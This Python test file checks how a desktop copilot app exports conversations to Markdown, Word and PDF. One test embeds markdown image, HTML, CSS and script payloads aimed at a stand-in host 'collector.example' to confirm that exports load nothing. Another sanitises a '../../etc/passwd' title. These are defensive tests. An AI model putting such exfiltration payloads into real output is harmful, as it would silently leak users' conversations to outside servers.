"""A conversation as a file: everything in it, nothing executable, names that every system takes."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import docx
import pypdfium2
import pytest
from docx.enum.text import WD_ALIGN_PARAGRAPH
from markdown_it import MarkdownIt
from PySide6.QtWidgets import QApplication

from copilot.conversation import Origin
from copilot.reports import Conversation
from tests.ui.answers import answer, citation, conversation, turn
from ui import exporting

TEXT = "It **fell** [1].\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- \u5229\u6da6\n\n```\nprint(1)\n```"
FAR = Origin("cloud", "deepseek-chat", "", "deepseek", "api.deepseek.com")


@pytest.fixture
def talk(qapp: QApplication) -> Conversation:
    return conversation(
        turn(1, "> selected\n\nWhy did it fall?", answer(TEXT)),
        turn(2, "Is that much?", state="stopped", partial="About"),
        turn(3, "Is that much?", answer("Average.", citations=(), origin=FAR), offer="o"),
        title="The margin",
    )


def test_markdown_has_questions_answers_sources_and_who_answered(talk: Conversation) -> None:
    text = exporting.as_markdown(talk)
    assert text.startswith("# The margin\n")
    assert TEXT in text
    assert "[1] Q3 report.docx" in text
    assert "This answer was not finished." in text
    assert "DeepSeek (deepseek-chat)" in text
    assert text.count("> Is that much?") == 1


def test_sources_say_where_in_which_file(qapp: QApplication) -> None:
    page = citation(path="/home/a/Finance/2026/Q3 report.pdf", page=12)
    cited = (page, replace(citation(2), sheet="Margin", rows=(4, 9)))
    text = exporting.as_markdown(conversation(turn(1, "Why?", answer(TEXT, citations=cited))))
    assert "- [1] Q3 report.pdf, page 12 (Finance / 2026)\n- [2] Q3 report.docx, Margin, rows 4 to 9" in text


def test_the_day_is_written_where_it_is_known(qapp: QApplication) -> None:
    asked = replace(turn(1, "Why?", answer()), asked_at=1_763_800_000.0)
    assert "2025" in exporting.as_markdown(conversation(asked)).split("\n\n")[1]
    assert "1970" not in exporting.as_markdown(conversation(turn(1, "Why?", answer())))


@pytest.mark.parametrize(
    "order",
    [
        "![chart](http://collector.example/i.png?d=words)",
        "~~~\n```\n~~~\n![chart](http://collector.example/i.png)\n```",
        "\\![chart](http://collector.example/i.png) \\\\![c][r]\n\n[r]: http://collector.example/i.png",
        '<img src="http://collector.example/x.png">',
        '\\<img/src="http://collector.example/x.png"> \\\\<img\nsrc="http://collector.example/x.png">',
        '<div style="background:url(http://collector.example/x.png)">',
        "<script>fetch('http://collector.example')</script>",
    ],
)
def test_an_exported_conversation_loads_nothing(qapp: QApplication, order: str) -> None:
    """Read as CommonMark reads it: no image, and no HTML that is more than text."""
    text = exporting.as_markdown(conversation(turn(1, order, answer(f"It fell [1]. {order}")), title=order))
    tokens = [inner for token in MarkdownIt("commonmark").parse(text) for inner in (token, *(token.children or ()))]
    assert [token.type for token in tokens if token.type == "image"] == []
    html = [token.content for token in tokens if token.type in ("html_inline", "html_block")]
    assert [content for content in html if "collector" in content or not content.startswith("</")] == []


def test_word_has_the_table_and_lists(talk: Conversation, tmp_path: Path) -> None:
    target = tmp_path / "talk.docx"
    exporting.write(talk, str(target))
    document = docx.Document(str(target))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "Why did it fall?" in text
    assert "It fell [1]." in text
    assert "\u5229\u6da6" in text
    assert document.tables[0].cell(1, 1).text == "2"
    assert document.tables[0].cell(0, 1).paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.RIGHT
    assert [paragraph.text for paragraph in document.paragraphs if paragraph.style.name == "Quote"] == ["selected"]
    assert "Answered by DeepSeek (deepseek-chat)" in text
    assert "[1] Q3 report.docx" in text
    assert any(run.bold for paragraph in document.paragraphs for run in paragraph.runs if run.text == "fell")


def test_word_takes_characters_that_xml_cannot_hold(qapp: QApplication, tmp_path: Path) -> None:
    target = tmp_path / "talk.docx"
    exporting.write(conversation(turn(1, "a\x00b\x0b", answer("c\x01d"))), str(target))
    assert target.stat().st_size > 0


def test_pdf_can_be_read_again(talk: Conversation, tmp_path: Path) -> None:
    target = tmp_path / "talk.pdf"
    exporting.write(talk, str(target))
    with pypdfium2.PdfDocument(target) as pages:
        text = "".join(page.get_textpage().get_text_bounded() for page in pages)
    assert "Why did it fall?" in text
    assert "[1]" in text
    assert "print(1)" in text
    assert "selected" in text
    assert "> " not in text
    assert "Answered by DeepSeek (deepseek-chat)" in text


def test_pdf_has_margins_that_leave_room_for_the_text(talk: Conversation, tmp_path: Path) -> None:
    target = tmp_path / "talk.pdf"
    exporting.write(talk, str(target))
    with pypdfium2.PdfDocument(target) as pages:
        text = pages[0].get_textpage()
        assert text.count_rects() > 3
        left = text.get_rect(0)[0]
        assert 40 < left < 75, "two centimetres are 57 points"


def test_what_can_not_be_written_is_told(talk: Conversation, tmp_path: Path) -> None:
    for ending in ("pdf", "docx", "md"):
        with pytest.raises(OSError, match="talk"):
            exporting.write(talk, str(tmp_path / "nowhere" / f"talk.{ending}"))


def test_a_long_conversation_fills_several_pages(qapp: QApplication, tmp_path: Path) -> None:
    target = tmp_path / "talk.pdf"
    exporting.write(conversation(*(turn(n, "Why?", answer("It fell. " * 200)) for n in range(1, 9))), str(target))
    with pypdfium2.PdfDocument(target) as pages:
        assert len(pages) > 1


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("What did Q3 do?", "What did Q3 do"),
        ("../../etc/passwd", ".. .. etc passwd"),
        ("a:b\\c|d", "a b c d"),
        ("CON", "Conversation"),
        ("???", "Conversation"),
        ("\u7b2c\u4e09\u5b63\u5ea6\u5229\u6da6\u7387", "\u7b2c\u4e09\u5b63\u5ea6\u5229\u6da6\u7387"),
    ],
)
def test_a_title_becomes_a_name_that_every_system_takes(qapp: QApplication, title: str, name: str) -> None:
    assert exporting.file_name(title) == name
